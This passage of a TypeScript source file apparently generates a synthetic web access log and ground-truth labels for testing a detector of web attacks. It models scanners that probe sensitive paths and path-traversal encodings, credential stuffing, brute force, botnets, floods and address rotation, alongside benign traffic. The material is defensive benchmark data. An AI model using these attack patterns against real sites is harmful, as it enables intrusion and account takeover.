const DEEP_PATHS = SCAN_DIRS.flatMap((dir) => SENSITIVE.map((path) => dir + path));

function scanStatus(path: string): number {
  if (/\/\.(git|ht)|\/server-(status|info)$/.test(path)) return 403;
  if (/\/(phpmyadmin|admin)$/.test(path)) return 301;
  if (path.includes("%2f..") || path.includes("/.%2e/")) return 400;
  if (path.includes("?")) return path.startsWith("/index.php") ? 404 : 200;
  return 404;
}

function genScanner(log: ClassLog, at: number): void {
  const rng = log.rng;
  for (let k = 0; k < 10; k++) {
    const ip = `203.0.113.${21 + k}`;
    const tool = k < SCANNER_UAS.length ? SCANNER_UAS[k]! : browserUa(rng);
    const rate = rng.uniform(1, 5);
    const count = Math.round(rate * rng.uniform(60, 150));
    const paths = [...rng.shuffle([...CORE_PATHS]), ...rng.shuffle([...DEEP_PATHS])].slice(
      0,
      count,
    );
    let t = at + rng.uniform(0, 90);
    for (const [i, path] of paths.entries()) {
      const status = scanStatus(path);
      log.request(ip, ip, t, {
        method: tool === "Nikto" && rng.chance(0.2) ? "HEAD" : "GET",
        path,
        proto: "HTTP/1.1",
        status,
        bytes: status === 200 ? rng.int(15000, 46000) : status === 301 ? 178 : 162,
        // Nikto numbers its tests in the User-Agent.
        ua: tool === "Nikto"
          ? `Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:${String(i + 1).padStart(6, "0")})`
          : tool,
      });
      t += rng.uniform(0.6, 1.4) / rate;
    }
  }
}

/** Failed logins against `/login`: the status of a stuffing attempt (a few hits get 200). */
function loginAttempt(
  log: ClassLog,
  ip: string,
  source: string,
  t: number,
  ua: string,
  hit = 0.05,
) {
  const ok = log.rng.chance(hit);
  log.request(source, ip, t, {
    method: "POST",
    path: "/login",
    status: ok ? 200 : 401,
    bytes: ok ? 1843 : 612,
    referer: log.rng.chance(0.7) ? `${SITE}/login` : "-",
    ua,
  });
}

function genCredentialStuffing(log: ClassLog, at: number): void {
  const rng = log.rng;
  const ips = new Set<string>();
  while (ips.size < 20) ips.add(`198.51.100.${rng.int(2, 99)}`);
  for (const ip of ips) {
    const uas = Array.from({ length: rng.int(1, 3) }, () => browserUa(rng));
    const rate = rng.uniform(1, 6);
    const begin = at + rng.uniform(0, 180);
    const end = begin + rng.uniform(110, 130);
    for (let t = begin; t < end; t += rng.uniform(0.5, 1.5) / rate) {
      loginAttempt(log, ip, ip, t, rng.pick(uas));
    }
  }
}

function genBruteForce(log: ClassLog, at: number): void {
  const rng = log.rng;
  const targets = [
    ["203.0.113.41", "/wp-login.php", 401, browserUa(rng)],
    ["203.0.113.42", "/login", 401, "Mozilla/5.0 (Hydra)"],
    ["203.0.113.43", "/user/login", 403, browserUa(rng)],
  ] as const;
  for (const [ip, path, status, ua] of targets) {
    const begin = at + rng.uniform(0, 10);
    // A tool with a fixed 10-second delay, for ten minutes.
    for (let i = 0; i < 60; i++) {
      log.request(ip, ip, begin + i * 10, {
        method: "POST",
        path,
        proto: "HTTP/1.1",
        status,
        bytes: 612,
        referer: `${SITE}${path}`,
        ua,
      });
    }
  }
}

function genLoginBotnet(log: ClassLog, at: number): void {
  const rng = log.rng;
  for (const ip of distinctV4(rng, "198.19", 300)) {
    const ua = browserUa(rng);
    const end = at + rng.uniform(470, 490);
    for (let t = at + rng.uniform(0, 30); t < end; t += rng.uniform(20, 30)) {
      loginAttempt(log, ip, ip, t, ua, 0);
    }
  }
}

function genLoginFloodFast(log: ClassLog, at: number): void {
  const rng = log.rng;
  const ips = new Set<string>();
  while (ips.size < 20) ips.add(`198.51.100.${rng.int(101, 254)}`);
  for (const ip of ips) {
    const ua = browserUa(rng);
    const begin = at + rng.int(0, 10);
    for (let s = 0; s < 60; s++) {
      for (let i = 0; i < 10; i++) {
        loginAttempt(log, ip, ip, begin + s + (i + rng.next() * 0.9) / 10, ua, 0);
      }
    }
  }
}

function genUaRotation(log: ClassLog, at: number): void {
  const rng = log.rng;
  for (let k = 0; k < 5; k++) {
    const ip = `203.0.113.${51 + k}`;
    const rate = rng.uniform(2, 3);
    const begin = at + rng.uniform(0, 20);
    let ua = rotatingUa(rng);
    for (let t = begin; t < begin + 300; t += rng.uniform(0.6, 1.4) / rate) {
      if (rng.chance(0.92)) ua = rotatingUa(rng);
      const product = rng.int(0, PRODUCTS.length - 1);
      const listing = rng.chance(0.25);
      const gone = rng.chance(0.02);
      log.request(ip, ip, t, {
        path: listing
          ? `/products?category=${rng.pick(CATEGORIES)}&page=${rng.int(1, 40)}`
          : `/products/${PRODUCTS[product]}`,
        proto: "HTTP/1.1",
        status: gone ? 404 : 200,
        bytes: gone ? 4927 : rng.int(24000, 90000),
        ua,
      });
    }
  }
}

/** The rotating attacker's /64: ground truth names the prefix, not its addresses. */
export const IPV6_ROTATION_PREFIX = "2001:db8:a:b::/64";

function genIpv6Rotation(log: ClassLog, at: number): void {
  const rng = log.rng;
  const ua = browserUa(rng);
  for (let t = at; t < at + 180; t += rng.uniform(0.5, 1.5) / 3) {
    const ip = `2001:db8:a:b:${rng.hex16()}:${rng.hex16()}:${rng.hex16()}:${rng.hex16()}`;
    loginAttempt(log, ip, IPV6_ROTATION_PREFIX, t, ua);
  }
}

/**
 * An HTTP flood from a botnet: each bot alone stays under the flood rate (3–8 GET/s), on the
 * home page, the home page with a cache-busting query, or pages at random. The addresses are
 * public space the other classes do not use (the documentation ranges are taken).
 */
function genHttpBotnet(log: ClassLog, at: number): void {
  const rng = log.rng;
  for (const [k, ip] of distinctV4(rng, "45.155", 200).entries()) {
    const ua = browserUa(rng);
    const rate = rng.uniform(3, 8);
    const begin = at + rng.uniform(0, 30);
    const end = begin + rng.uniform(120, 150);
    for (let t = begin; t < end; t += rng.uniform(0.6, 1.4) / rate) {
      const page = k % 3 === 2 ? randomPage(rng) : undefined;
      log.request(ip, ip, t, {
        path: page?.path ?? (k % 3 === 0 ? "/" : `/?${rng.int(0, 2 ** 30).toString(36)}`),
        status: 200,
        bytes: page?.html ?? rng.int(38000, 46000),
        ua,
      });
    }
  }
}

/** Credential stuffing against a site that answers a wrong password with 200 and a message: no
 * failure status to count, only the rate of login POSTs. */
function genSoftStuffing(log: ClassLog, at: number): void {
  const rng = log.rng;
  for (let k = 0; k < 10; k++) {
    const ip = `192.0.2.${101 + k}`;
    const ua = browserUa(rng);
    const rate = rng.uniform(1, 6);
    const begin = at + rng.uniform(0, 60);
    for (let t = begin; t < begin + 120; t += rng.uniform(0.5, 1.5) / rate) {
      log.request(ip, ip, t, {
        method: "POST",
        path: "/login",
        status: 200,
        bytes: rng.int(8100, 8300),
        referer: `${SITE}/login`,
        ua,
      });
    }
  }
}

interface ClassSpec {
  kind: Kind;
  description: string;
  target?: Target;
  /** Start in seconds into a REFERENCE_SPAN corpus (attacks only). */
  startsAt?: number;
  generate(log: ClassLog, at: number, scale: number): void;
}

const SPECS: Record<ClassName, ClassSpec> = {
  flood: {
    kind: "attack",
    description: "3 IPs, 52–68 GET/s each on pages for 60 s, 200",
    target: { seconds: 10, share: 1 },
    startsAt: 60,
    generate: genFlood,
  },
  scanner: {
    kind: "attack",
    description: "10 IPs, 1–5 req/s each for 60–150 s over sensitive paths and injections, " +
      "mostly 404; 6 scanner UAs, 4 browser UAs",
    target: { seconds: 30, share: 1 },
    startsAt: 150,
    generate: genScanner,
  },
  credential_stuffing: {
    kind: "attack",
    description: "20 IPs, 1–6 POST /login/s each for ~2 min, staggered over 3 min, 95 % 401",
    target: { seconds: 30, share: 1 },
    startsAt: 240,
    generate: genCredentialStuffing,
  },
  brute_force: {
    kind: "attack",
    description: "3 IPs, one failed POST every 10 s for 10 min (/wp-login.php, /login, " +
      "/user/login; 401/403)",
    target: { seconds: 300, share: 1 },
    startsAt: 330,
    generate: genBruteForce,
  },
  login_botnet: {
    kind: "attack",
    description: "300 IPs, one failed POST /login every 20–30 s each for ~8 min, 401",
    target: { seconds: 180, share: 0.9 },
    startsAt: 420,
    generate: genLoginBotnet,
  },
  login_flood_fast: {
    kind: "attack",
    description: "20 IPs, 10 POST /login/s each for 60 s, 401",
    target: { seconds: 30, share: 1 },
    startsAt: 510,
    generate: genLoginFloodFast,
  },
  ua_rotation: {
    kind: "attack",
    description: "5 IPs, 2–3 GET/s each on product pages for 5 min, a new UA on ~92 % of requests",
    target: { seconds: 60, share: 1 },
    startsAt: 600,
    generate: genUaRotation,
  },
  ipv6_rotation: {
    kind: "attack",
    description: "one attacker in 2001:db8:a:b::/64, a new address per request, ~3 POST " +
      "/login/s for 3 min, 95 % 401",
    target: { seconds: 30, share: 1 },
    startsAt: 690,
    generate: genIpv6Rotation,
  },
  http_botnet: {
    kind: "attack",
    description: "200 IPs, 3–8 GET/s each for 120–150 s (under the flood rate alone), on /, " +
      "/?<cache buster> or pages at random, 200",
    target: { seconds: 60, share: 0.9 },
    startsAt: 780,
    generate: genHttpBotnet,
  },
  soft_stuffing: {
    kind: "attack",
    description: "10 IPs, 1–6 POST /login/s each for 2 min, answered 200 (the site's " +
      '"wrong password" page)',
    target: { seconds: 60, share: 1 },
    startsAt: 960,
    generate: genSoftStuffing,
  },
  browsing: {
    kind: "benign",
    description: "~2000 visitors (×scale; 1 in 5 over IPv6): 1–10 pages with 5–30 assets " +
      "each, 5–60 s think time, odd 404/304, 5 % log in (a third mistype once)",
    generate: (log, _at, scale) => genBrowsing(log, scale),
  },
  nat_gateway: {
    kind: "benign",
    description: "3 IPs, 60 people (60 distinct UAs) browsing behind each",
    generate: genNatGateway,
  },
  crawler: {
    kind: "benign",
    description: "Googlebot (4 IPs) and Bingbot (3 IPs), ≤ 5 req/s each, robots.txt, some 404/301",
    generate: genCrawler,
  },
  health_check: {
    kind: "benign",
    description:
      "2 kube-probe IPs in 10/8, one ELB checker in 192.168/16: GET /healthz every 1–2 s",
    generate: genHealthCheck,
  },
  api_client: {
    kind: "benign",
    description: "python-requests at ~0.8 req/s and curl every 5–15 s on /api/v1/…",
    generate: genApiClient,
  },
  mobile_gateway: {
    kind: "benign",
    description: "1 IP, a carrier's gateway: 150 people with their own browsers, ~50 browsing " +
      "at once (over 2 page and XHR requests a second together)",
    generate: genMobileGateway,
  },
  power_user: {
    kind: "benign",
    description: "4 users behind 192.0.2.50 browsing, each opening 20 tabs in 2 s once",
    generate: genPowerUser,
  },
};

/** Every class name, attacks first. */
export const CLASS_NAMES: readonly ClassName[] = [...ATTACK_CLASSES, ...BENIGN_CLASSES];

function isClassName(name: string): name is ClassName {
  return (CLASS_NAMES as readonly string[]).includes(name);
}

/** The classes a selection (`mixed`, `benign` or a class name) generates. */
export function selectClasses(selection: string): ClassName[] {
  if (selection === "mixed") return [...CLASS_NAMES];
  if (selection === "benign") return [...BENIGN_CLASSES];
  if (!isClassName(selection)) {
    throw new Error(
      `unknown class "${selection}": expected mixed, benign or one of ${CLASS_NAMES.join(", ")}`,
    );
  }
  return SPECS[selection].kind === "attack" ? [selection, ...BENIGN_CLASSES] : [selection];
}

/** Generates the corpus in memory: log lines sorted by time, and the ground truth. */
export function generateCorpus(options: CorpusOptions = {}): Corpus {
  const seed = options.seed ?? 1;
  const start = options.start ?? DEFAULT_START;
  const span = options.span ?? DEFAULT_SPAN;
  const scale = options.scale ?? 1;
  const selection = options.class ?? "mixed";
  if (!(span > 0) || !(scale >= 0)) throw new Error("span must be > 0 and scale ≥ 0");
  const out: Line[] = [];
  const seq = { n: 0 };
  const classes: ClassTruth[] = [];
  for (const name of selectClasses(selection)) {
    const spec = SPECS[name];
    const log = new ClassLog(new Rng(streamSeed(seed, name)), span, start, out, seq);
    const at = (spec.startsAt ?? 0) * span / REFERENCE_SPAN;
    spec.generate(log, at, scale);
    const sources = [...log.sources].map(([source, s]): SourceTruth => ({
      source,
      first: s.first,
      last: s.last,
      requests: s.requests,
      ...(s.addresses !== undefined ? { addresses: s.addresses.size } : {}),
    })).sort((a, b) => a.first - b.first || (a.source < b.source ? -1 : 1));
    classes.push({
      name,
      kind: spec.kind,
      description: spec.description,
      ...(spec.target !== undefined ? { target: spec.target } : {}),
      lines: log.lines,
      sources,
    });
  }
  // By time; within one millisecond (and so within one log second) in generation order.
  out.sort((a, b) => a.ms - b.ms || a.seq - b.seq);
  const lines = new Array<string>(out.length);
  let second = -1;
  let stamp = "";
  for (let i = 0; i < out.length; i++) {
    const line = out[i]!;
    const s = Math.floor(line.ms / 1000);
    if (s !== second) {
      second = s;
      stamp = timeLocal(start + s);
    }
    lines[i] = `${line.ip} - - [${stamp}] ${line.rest}`;
  }
  return {
    lines,
    truth: {
      format: "qts-detection-corpus/1",
      seed,
      selection,
      start,
      span,
      scale,
      lines: lines.length,
      classes,
    },
  };
}

/** Writes `dir/access.log` and `dir/truth.json`; returns their paths. */
export async function writeCorpus(
  dir: string,
  corpus: Corpus,
): Promise<{ log: string; truth: string }> {
  await Deno.mkdir(dir, { recursive: true });
  const log = join(dir, "access.log");
  const truth = join(dir, "truth.json");
  const file = await Deno.open(log, { write: true, create: true, truncate: true });
  try {
    // In chunks: one 40 MB string would double the peak memory for nothing.
    for (let i = 0; i < corpus.lines.length; i += 20_000) {
      const chunk = corpus.lines.slice(i, i + 20_000).join("\n") + "\n";
      const bytes = encoder.encode(chunk);
      for (let off = 0; off < bytes.length;) off += await file.write(bytes.subarray(off));
    }
  } finally {
    file.close();
  }
  await Deno.writeTextFile(truth, JSON.stringify(corpus.truth, null, 1) + "\n");
  return { log, truth };
}

if (import.meta.main) {
  const { values } = parseArgs({
    args: Deno.args,
    options: {
      out: { type: "string" },
      class: { type: "string" },
      seed: { type: "string" },
      span: { type: "string" },
      scale: { type: "string" },
      help: { type: "boolean", short: "h" },
    },
  });
  if (values.help || values.out === undefined) {
    console.error(
      "Usage: generate_corpus.ts --out DIR [--class mixed|benign|NAME] [--seed N] [--span S] " +
        `[--scale F]\nClasses: ${CLASS_NAMES.join(", ")}`,
    );
    Deno.exit(values.help ? 0 : 2);
  }
  const options: CorpusOptions = {};
  if (values.class !== undefined) options.class = values.class;
  if (values.seed !== undefined) options.seed = Number(values.seed);
  if (values.span !== undefined) options.span = Number(values.span);
  if (values.scale !== undefined) options.scale = Number(values.scale);
  const corpus = generateCorpus(options);
  const paths = await writeCorpus(values.out, corpus);
  console.log(`${paths.log}: ${corpus.lines.length} lines; ${paths.truth}`);
  for (const c of corpus.truth.classes) {
    console.log(
      `  ${c.name.padEnd(20)} ${c.kind.padEnd(7)} ${String(c.sources.length).padStart(5)} sources ${
        String(c.lines).padStart(7)
      } lines`,
    );
  }
}
